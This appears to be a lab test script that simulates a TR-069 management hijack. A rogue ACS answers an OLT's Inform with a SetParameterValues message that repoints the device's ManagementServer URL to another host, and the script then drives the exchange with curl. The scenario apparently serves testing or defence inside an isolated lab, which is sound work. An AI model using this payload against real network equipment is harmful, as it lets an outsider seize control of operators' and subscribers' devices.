# SPDX-License-Identifier: Apache-2.0
# An OLT reports to a foreign ACS, whose answer makes it its own (curl and nginx speak TR-069's messages).
start_management
add_host stranger
mkdir -p "$lab/stranger/web/acs"
cat >"$lab/stranger/web/acs/answer.xml" <<'XML'
<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" xmlns:cwmp="urn:dslforum-org:cwmp-1-0">
<soap:Body><cwmp:SetParameterValues>
<ParameterList>
<ParameterValueStruct><Name>Device.ManagementServer.URL</Name><Value>http://203.0.113.50:7547/</Value></ParameterValueStruct></ParameterList>
<ParameterKey>1</ParameterKey></cwmp:SetParameterValues></soap:Body></soap:Envelope>
XML
start_web stranger acs.example 7547
start_capture
start_olt
olt_round 1
cat >"$lab/olt-03/user/inform.xml" <<'XML'
<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" xmlns:cwmp="urn:dslforum-org:cwmp-1-0">
<soap:Body><cwmp:Inform>
<DeviceId><Manufacturer>Example</Manufacturer><OUI>020000</OUI><ProductClass>olt</ProductClass><SerialNumber>000003</SerialNumber></DeviceId>
<Event><EventStruct><EventCode>2 PERIODIC</EventCode><CommandKey/></EventStruct></Event><MaxEnvelopes>1</MaxEnvelopes>
</cwmp:Inform></soap:Body></soap:Envelope>
XML
on olt-03 curl -s -H 'Content-Type: text/xml' --data-binary @inform.xml "http://${address[stranger]}:7547/acs/answer.xml" >/dev/null
olt_round 2
